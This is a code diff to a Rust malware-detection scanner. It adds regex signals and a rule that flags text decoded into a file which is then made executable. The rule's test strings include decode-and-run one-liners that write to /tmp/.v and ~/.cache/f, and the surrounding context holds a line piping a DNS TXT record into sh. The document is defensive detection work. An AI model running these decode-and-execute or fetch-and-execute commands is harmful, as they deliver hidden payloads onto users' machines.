@@ -66,6 +66,19 @@ static DNS_STAGE: Signal = Signal::command(
     | \bResolve-DnsName\b[^\n]*?\bTXT\b[^\n]*?\biex\b"#,
 );
 
+/// Text that is decoded into a file.
+static DECODED_TO_FILE: Signal = Signal::command(
+    &["base64", "base32", "xxd", "openssl", "uudecode", "tr ", "rev ", "gunzip", "zcat"],
+    r#"(?x)
+      \b(?:base(?:64|32)\s+(?:-d|-D|--decode)|xxd\s+(?:-p\s+)?-r|openssl\s+(?:enc|base64|aes\S*)\b[^\n|]*\s-d|uudecode|rev|gunzip\s+-c|zcat)\b[^\n]{0,120}?>\s*["']?[\w./~$\{\}-]+ | \btr\s+["'][^"'\n]{2,60}["']\s+["'][^"'\n]{2,60}["'][^\n]{0,120}?>\s*["']?(?:/tmp|/var/tmp|/dev/shm|~|\$)[\w./~$\{\}-]+"#,
+);
+
+/// A file that becomes a program.
+static MADE_RUNNABLE: Signal = Signal::command(
+    &["chmod"],
+    r"\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+r?w?x|0?7[0-7]{2})\s",
+);
+
 pub(super) static RULES: &[Rule] = &[
     Rule {
         id: "MALWAR-OBF-001",
@@ -229,6 +242,27 @@ pub(super) static RULES: &[Rule] = &[
             "```bash\ndig +short txt a.quick-fix.top | sh\n```\n",
         ],
         misses: &["```bash\ndig +short txt _dmarc.example.org\n```\n", "```cmd\nnslookup -q=txt example.org\n```\n"],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-OBF-010",
+        title: "Text is decoded into a file, and the file is made a program",
+        severity: Severity::High,
+        confidence: 80,
+        category: Category::ObfuscatedCommand,
+        taxa: &["OB-02", "CE-03"],
+        why: "a program that comes as unreadable text is not to be read",
+        fix: "decode it and look; ship programs as such, with a checksum",
+        when: When::Order(200, &[&[&DECODED_TO_FILE], &[&MADE_RUNNABLE]]),
+        guard: Some(judges::in_code),
+        hits: &[
+            "```bash\ncat logo.txt | tr 'A-Za-z' 'N-ZA-Mn-za-m' | xxd -r -p > /tmp/.v && chmod 755 /tmp/.v && /tmp/.v\n```\n",
+            "@a.sh\nbase64 -d assets/font.b64 > ~/.cache/f\nchmod +x ~/.cache/f\n",
+        ],
+        misses: &[
+            "```bash\necho \"$KEY\" | base64 -d > key.pem && chmod 600 key.pem\n```\n",
+            "```bash\nchmod +x run.sh\nbase64 -d a.b64 > a.png\n```\n",
+        ],
         ..Rule::BASE
     },
 ];
